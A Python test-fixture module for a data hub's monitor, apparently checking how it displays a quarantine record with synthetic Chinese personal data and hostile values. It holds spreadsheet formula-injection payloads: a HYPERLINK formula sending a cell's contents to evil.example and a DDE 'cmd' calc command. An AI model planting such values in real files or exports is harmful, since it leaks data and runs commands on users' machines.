"""The monitor as a browser and an attacker see it: sign in with the form's CSRF token; a quarantine
holding personal data and values that start like spreadsheet formulas."""

from __future__ import annotations

import json
import re
from typing import Any

import pyarrow as pa
from fastapi.testclient import TestClient

from quality.verdict import QUARANTINE_SCHEMA

__all__ = [
    "ADDRESS",
    "CITIZEN_ID",
    "FORMULA",
    "NAME",
    "PHONE",
    "csrf_token",
    "hostile_quarantine",
    "plant_hostile_quarantine",
    "sign_in",
]

_TOKEN = re.compile(r'name="csrf_token" value="([^"]+)"')
CITIZEN_ID, NAME, PHONE = "430902199001011234", "张三丰", "13907370001"
ADDRESS = "湖南省益阳市赫山区龙岭大道1号"
FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"点击")'


def hostile_quarantine() -> pa.Table:
    record = {
        "id_number": CITIZEN_ID,
        "name": NAME,
        "phone": PHONE,
        "household_address": ADDRESS,
        "status": FORMULA,
        "region_code": "-12.5",
    }
    reasons = [
        {
            "rule": "gb11643",
            "field": "id_number",
            "value": CITIZEN_ID,
            "severity": "error",
            "dimension": "accuracy",
            "message": f"公民身份号码 {CITIZEN_ID} 校验位错误",
        },
        {
            "rule": "enum",
            "field": "status",
            "value": FORMULA,
            "severity": "error",
            "dimension": "conformance",
            "message": "人员状态不在代码表中",
        },
        {
            "rule": "range",
            "field": "region_code",
            "value": "-12.5",
            "severity": "error",
            "dimension": "accuracy",
            "message": "区划代码超出范围",
        },
        {
            "rule": "检查规则",
            "field": "name",
            "value": "+cmd|' /C calc'!A0",
            "severity": "error",
            "dimension": "accuracy",
            "message": "@SUM(1+1)",
        },
    ]
    return pa.Table.from_pylist(
        [
            {
                "row_key": CITIZEN_ID,
                "source_file": None,
                "source_line": None,
                "record": json.dumps(record, ensure_ascii=False),
                "reasons": reasons,
            }
        ],
        schema=QUARANTINE_SCHEMA,
    )


def plant_hostile_quarantine() -> None:
    """Write `hostile_quarantine()` as run `run-1` of person into the configured hub, recorded as succeeded
    (the monitor shows only rows of succeeded runs)."""
    from sqlalchemy.orm import Session

    from govhub.db import get_engine
    from govhub.delivery_runner import open_lake
    from govhub.models import IngestRun
    from schemas import load_contract

    open_lake().quarantine(load_contract("person")).write(hostile_quarantine(), run_seq=1, run_id="run-1")
    with Session(get_engine()) as session:
        session.add(IngestRun(run_id="run-1", resource="person", seq=1, status="succeeded"))
        session.commit()


def csrf_token(client: TestClient, path: str = "/monitor/login") -> str:
    """The CSRF token of a monitor page (the page also sets the browser's CSRF cookie)."""
    page = client.get(path)
    found = _TOKEN.search(page.text)
    assert found, f"no CSRF token on {path}"
    return found.group(1)


def sign_in(client: TestClient, **form: str) -> Any:
    """POST the sign-in form with its CSRF token; returns the answer (303 on success)."""
    return client.post("/monitor/login", data={**form, "csrf_token": csrf_token(client)}, follow_redirects=False)
